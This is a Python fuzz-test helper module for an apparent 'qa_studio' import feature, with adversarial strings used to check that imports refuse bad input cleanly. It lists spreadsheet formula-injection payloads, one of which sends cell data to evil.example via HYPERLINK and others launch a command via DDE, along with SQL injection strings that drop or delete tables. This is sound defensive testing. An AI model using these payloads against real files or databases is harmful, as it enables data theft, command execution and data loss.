"""Shared by the fuzz tests: adversarial values, the "refused cleanly or imported" checks, counts.

Every fuzz test counts the cases Hypothesis actually ran in ``CASES`` (printed at the end of the
session by ``conftest.pytest_terminal_summary``) and asserts that its own count went up, so a
strategy that silently generates nothing fails instead of passing.
"""

from __future__ import annotations

from collections import Counter

from hypothesis import strategies as st

from qa_studio.errors import QAStudioError
from qa_studio.storage.repository import audit

CASES: Counter[str] = Counter()

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=0",
]
SQL = [
    "'); DROP TABLE interactions;--",
    "1; DELETE FROM audit_log",
    '" OR 1=1 --',
    "Robert'); DROP TABLE agents;--",
]
CONTROL = ["\x00", "\x01", "\x07", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\u200b", "\u202e", "\ufeff"]
ODD_TEXT = [
    "Zoë Ñúñez",
    "李小龙",
    "🙂🙃",
    "Ä" * 3,
    "O'Brien",
    "a,b",
    'say "hi"',
    "line\nbreak",
    "  ",
]

#: 1 MB in one cell; drawn rarely (Hypothesis favours small draws) but drawn.
HUGE = "X" * 1_000_000

adversarial_text = st.one_of(
    st.sampled_from(FORMULAS + SQL + CONTROL + ODD_TEXT),
    st.text(max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(FORMULAS + SQL), st.sampled_from(CONTROL)),
    st.just(HUGE),
    st.just("[" * 100_000),  # JSON-looking and absurdly deep (tags, JSON fields)
)


def counts(ws) -> tuple[int, ...]:
    """Rows per table an import may write: unchanged after a refusal."""
    tables = ("interactions", "agents", "transcripts", "audit_log", "teams")
    return tuple(ws.db.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in tables)


def assert_chain_ok(ws) -> None:
    result = audit.verify(ws.db)
    assert result.ok, result.message


def assert_clear_refusal(exc: BaseException, *names: str) -> None:
    """A refusal is one of ours and its message (or details) names what was wrong."""
    assert isinstance(exc, QAStudioError), f"unexpected {type(exc).__name__}: {exc}"
    text = exc.message + " ".join(str(d) for d in exc.details)
    assert exc.message.strip()
    if names:
        assert any(n in text for n in names), text[:500]


def encode(text: str, how: str) -> bytes:
    """The file's bytes: UTF-8 (with/without BOM), Latin-1, UTF-16 or broken UTF-8."""
    if how == "utf-8":
        return text.encode("utf-8", "surrogatepass")
    if how == "utf-8-sig":
        return b"\xef\xbb\xbf" + text.encode("utf-8", "surrogatepass")
    if how == "latin-1":
        return text.encode("latin-1", "replace")
    if how == "utf-16":
        return text.encode("utf-16", "surrogatepass")
    if how == "broken-utf-8":
        raw = text.encode("utf-8", "surrogatepass")
        middle = len(raw) // 2
        return raw[:middle] + b"\xc3\x28\xff\xfe" + raw[middle:]
    raise AssertionError(how)


ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16", "broken-utf-8"])
